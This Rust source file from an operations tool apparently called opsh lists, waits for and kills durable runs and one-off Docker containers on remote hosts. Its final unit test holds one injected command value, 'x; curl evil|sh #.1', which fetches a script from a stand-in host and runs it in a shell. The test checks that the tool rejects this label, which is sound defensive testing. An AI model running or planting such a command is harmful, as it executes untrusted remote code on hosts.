//! Work that goes on without the opsh that began it: what is on a host, waiting for its end, ending it.
//!
//! A durable run is found by the id of its effect, among those of this account; a one-off container by its name, by
//! everybody who may use the Docker Engine. Both say who began them.

use super::docker::engine::Engine;
use super::docker::model::Container;
use super::docker::once::ONCE;
use super::fleet::Each;
use super::host::{self, HostHandle};
use super::ssh::{Durable, Listed, Outcome, Reach};
use super::way::Way;
use super::{Binding, Call, Change, Look, Receipt, World};
use crate::error::{Error, Kind, Result};
use crate::gate::verb::{Class, Verb};
use crate::gate::{Did, Lives, Pass, clock};
use rhai::Dynamic;
use serde::Deserialize;
use serde_json::{Value, json};
use std::time::Duration;

/// On every one-off that an effect started: [`Pass::about`] of it.
pub const ABOUT: &str = "opsh.about";

const LIST: Verb = Verb {
    name: "work.list",
    class: Class::Read,
    waits: false,
    sig: "host.works(options?: #{ partial: bool }) -> map",
    doc: "Lists the work that opsh began on the host. `works` has the durable runs of this account and the one-off \
          containers of everybody: `id`, `state` (`running`, `done`, `died`), `exit` (`()` while it runs), `by`, `verb`, \
          `target`, `says`, `at` (when it began), `effect`, `run`, `container` (bool). Without a Docker Engine only runs are \
          listed. Option: `partial`, as `host.read`. Fails with `unreachable`. Deadline 60 s. On `hosts(…)` as \
          `host.read`.",
    example: r#"host("prod-1").works().works"#,
};

const WAIT: Verb = Verb {
    name: "work.wait",
    class: Class::Read,
    waits: false,
    sig: "host.wait_for(id: string, options?: #{ within_s: int }) -> map",
    doc: "Waits for the end of what `host.works` lists. Shows its output as it comes, the last 64 KiB of what was before; \
          returns `code`, `out`, `err`, of which 1 MiB each is kept. Nothing is ended or removed. Option: `within_s` (1 \
          to 86400, default 3600). Fails with `not_found` for an id that is not there, `failed` when it was cut short and \
          left no status, `timeout`. Deadline 3600 s, or `within_s`.",
    example: r#"host("prod-1").wait_for("opsh-vrcshift-migrate", #{ within_s: 600 })"#,
};

const KILL: Verb = Verb {
    name: "work.kill",
    class: Class::Destroy,
    waits: false,
    sig: "host.kill(id: string) -> receipt",
    doc: "Ends what `host.works` lists, half way. Sends TERM, and KILL after 10 s; what it had done stays done. On the \
          machine of a stack that somebody else works on it needs the holder's name. `after` is its state. Fails with `not_found` for an id that is not there, `failed` when it still runs. Deadline 60 s.",
    example: r#"host("prod-1").kill("opsh-vrcshift-migrate")"#,
};

/// The bindings of this file.
pub const BINDINGS: &[Binding] =
    &[Binding::ReadEach(&LIST, list), Binding::Read(&WAIT, wait), Binding::Change(&KILL, kill)];

/// Between TERM and KILL.
const GRACE: Duration = Duration::from_secs(10);

#[derive(Deserialize, Default)]
#[serde(deny_unknown_fields, default)]
struct ListOptions {
    partial: bool,
}

fn list(call: &Call<'_>) -> Result<Each<Value>> {
    let options: ListOptions = call.options(0)?;
    call.read_each(
        options.partial,
        |host| Look::at(host, "", json!({})),
        (),
        |pass, way, ()| async move { listed(&way, &pass).await.map(|works| json!({ "works": works })) },
    )
}

async fn listed(way: &Way, pass: &Pass) -> Result<Vec<Value>> {
    let mut works: Vec<Value> = way.reach(pass).await?.durable_list(pass).await?.iter().map(run_row).collect();
    // A host without Docker has no containers: its runs are listed all the same.
    if let Ok(engine) = way.engine(pass).await {
        works.extend(engine.containers_labelled(&[ONCE]).await?.iter().map(container_row));
    }
    works.sort_by_key(|work| work["at"].as_str().map(String::from));
    Ok(works)
}

/// A durable run as [`LIST`] shows it.
pub fn run_row(run: &Listed) -> Value {
    let (state, exit) = match run.state {
        Durable::Running { .. } => ("running", Value::Null),
        Durable::Done(code) => ("done", json!(code)),
        Durable::Died | Durable::Never => ("died", Value::Null),
    };
    row(&run.id, state, exit, &run.about, false)
}

/// A one-off container as [`LIST`] shows it.
pub fn container_row(container: &Container) -> Value {
    let state = match container.state.as_str() {
        "exited" | "dead" => "done",
        "created" => "died",
        _ => "running",
    };
    let about = container.labels.get(ABOUT).map_or("", String::as_str);
    row(&container.name, state, Value::Null, about, true)
}

/// `about` was written by whoever began it: what is no JSON object of ours says nothing.
fn row(id: &str, state: &str, exit: Value, about: &str, container: bool) -> Value {
    let about: Value = serde_json::from_str(about).unwrap_or_default();
    let effect = about["effect"].as_str().filter(|effect| clock::run_of_effect(effect).is_some());
    json!({
        "id": id, "state": state, "exit": exit, "container": container, "effect": effect,
        "run": effect.and_then(clock::run_of_effect),
        "by": about["by"],
        "verb": about["verb"], "target": about["target"], "says": about["says"], "at": about["at"],
    })
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields, default)]
struct WaitOptions {
    within_s: u64,
}

impl Default for WaitOptions {
    fn default() -> WaitOptions {
        WaitOptions { within_s: 3600 }
    }
}

fn wait(call: &Call<'_>) -> Result<Dynamic> {
    let (host, id) = (call.this::<HostHandle>()?.name(), call.text(0)?);
    let options: WaitOptions = call.options(1)?;
    call.in_range("within_s", options.within_s, 1..=86400)?;
    let way = call.world.way(&host)?;
    let look = Look::at(call.world.host_target(&host), id.clone(), json!({ "id": id })).within(options.within_s);
    let value = call.read(look, (way, id), |pass, (way, id)| async move { ended(&way, &pass, &id).await })?;
    Ok(super::map(value))
}

/// Waits for the end and gives `code`, `out` and `err`.
async fn ended(way: &Way, pass: &Pass, id: &str) -> Result<Value> {
    let reach = way.reach(pass).await?;
    let finished = match reach.durable_state(pass, id).await? {
        Durable::Never => return container_ended(&container_engine(way, pass, id).await?, pass, id).await,
        _ => reach.durable_wait(pass, id, host::KEEP).await,
    };
    // Without an answer it is not known how it stands; that it left no status is an answer.
    if let (Outcome::Unknown(why), Ok(Durable::Died)) = (&finished.outcome, reach.durable_state(pass, id).await) {
        return Err(Error::new(Kind::Failed, format!("{id} failed on {}", way.name()), why.as_str()).host(way.name()));
    }
    let ran = host::finished(way.name(), &[id.to_string()], finished)?;
    Ok(json!({ "code": ran.code, "out": ran.out, "err": ran.err }))
}

async fn container_ended(engine: &Engine, pass: &Pass, name: &str) -> Result<Value> {
    let ran = engine.once_wait(name, host::KEEP).await?;
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    pass.output(&ran.stdout).await;
    pass.output(&ran.stderr).await;
    Ok(json!({ "code": ran.exit, "out": text(&ran.stdout), "err": text(&ran.stderr) }))
}

/// The Engine, when it has a one-off of this name.
async fn container_engine(way: &Way, pass: &Pass, name: &str) -> Result<Engine> {
    let engine = way.engine(pass).await?;
    if engine.containers_labelled(&[ONCE]).await?.iter().any(|container| container.name == name) {
        return Ok(engine);
    }
    let host = way.name();
    let why = format!("{host} has neither a run of this account nor a one-off container of that name");
    Err(Error::new(Kind::NotFound, format!("no work \"{name}\""), why)
        .host(host)
        .next(format!("host({}).works()     what is there", json!(host))))
}

fn kill(call: &Call<'_>) -> Result<Receipt> {
    let (host, id) = (call.this::<HostHandle>()?.name(), call.text(0)?);
    let way = call.world.way(&host)?;
    call.change(
        ending(call.world, &host, &id),
        (way, id),
        |pass, (way, id)| async move { killed(&way, &pass, &id).await },
    )
}

fn ending(world: &World, host: &str, id: &str) -> Change {
    Change::of(Look::at(world.host_target(host), id, json!({ "id": id }))).loses(id)
}

/// After Ctrl-C at a change that goes on without us: a second, worded question ends it there.
pub fn offer_to_end(world: &World) {
    world.gate.end_left(|left| match &left.lives {
        Lives::Run(host) => end(world, host, &left.effect),
        Lives::Container { host, name } => end(world, host, name),
        Lives::No => {}
    });
}

/// What it does is on the screen and in the record; the error that the script gets is that of the Ctrl-C.
fn end(world: &World, host: &str, id: &str) {
    let Ok(way) = world.way(host) else { return };
    let effect = ending(world, host, id).effect(&KILL);
    world.gate.consent(&[effect.intended()], "person at the terminal");
    let id = id.to_string();
    let _ = world.gate.perform(&effect, |pass| {
        let (way, id) = (way.clone(), id.clone());
        async move { killed(&way, &pass, &id).await }
    });
}

async fn killed(way: &Way, pass: &Pass, id: &str) -> Result<Did> {
    let reach = way.reach(pass).await?;
    match reach.durable_state(pass, id).await? {
        Durable::Never => kill_container(&container_engine(way, pass, id).await?, pass, id).await,
        Durable::Running { .. } => kill_run(&reach, pass, id).await,
        _ => Ok(Did { after: json!("done"), ..Did::default() }),
    }
}

async fn kill_container(engine: &Engine, pass: &Pass, name: &str) -> Result<Did> {
    pass.sending();
    engine.stop(name, GRACE.as_secs() as u32).await?;
    Ok(Did { changed: true, before: json!("running"), after: json!("done"), ..Did::default() })
}

async fn kill_run(reach: &Reach, pass: &Pass, id: &str) -> Result<Did> {
    pass.sending();
    reach.durable_signal(pass, id, "TERM").await?;
    if tokio::time::timeout(GRACE, reach.durable_wait(&pass.for_connection(), id, 0)).await.is_err() {
        reach.durable_signal(pass, id, "KILL").await?;
        let _ = tokio::time::timeout(GRACE, reach.durable_wait(&pass.for_connection(), id, 0)).await;
    }
    let after = match reach.durable_state(pass, id).await? {
        Durable::Running { pid } => {
            let why = format!("process group {pid} still runs");
            return Err(Error::new(Kind::Failed, format!("{id} was not ended on {}", reach.name()), why));
        }
        Durable::Done(_) => "done",
        Durable::Died | Durable::Never => "died",
    };
    Ok(Did { changed: true, before: json!("running"), after: json!(after), ..Did::default() })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_label_that_is_not_ours_says_nothing() {
        let work = row("x", "running", Value::Null, "no json", false);
        assert_eq!((work["by"].clone(), work["state"].clone()), (Value::Null, json!("running")));
        let work = row("x", "done", json!(0), r#"{"by":"alice","verb":"host.run"}"#, true);
        assert_eq!((work["by"].clone(), work["container"].clone()), (json!("alice"), json!(true)));
        for (effect, run) in
            [("20261124-061743-k3f9.1", json!("20261124-061743-k3f9")), ("x; curl evil|sh #.1", Value::Null)]
        {
            let work = row("x", "done", json!(0), &json!({ "effect": effect }).to_string(), true);
            assert_eq!(work["run"], run, "{effect}");
        }
    }
}
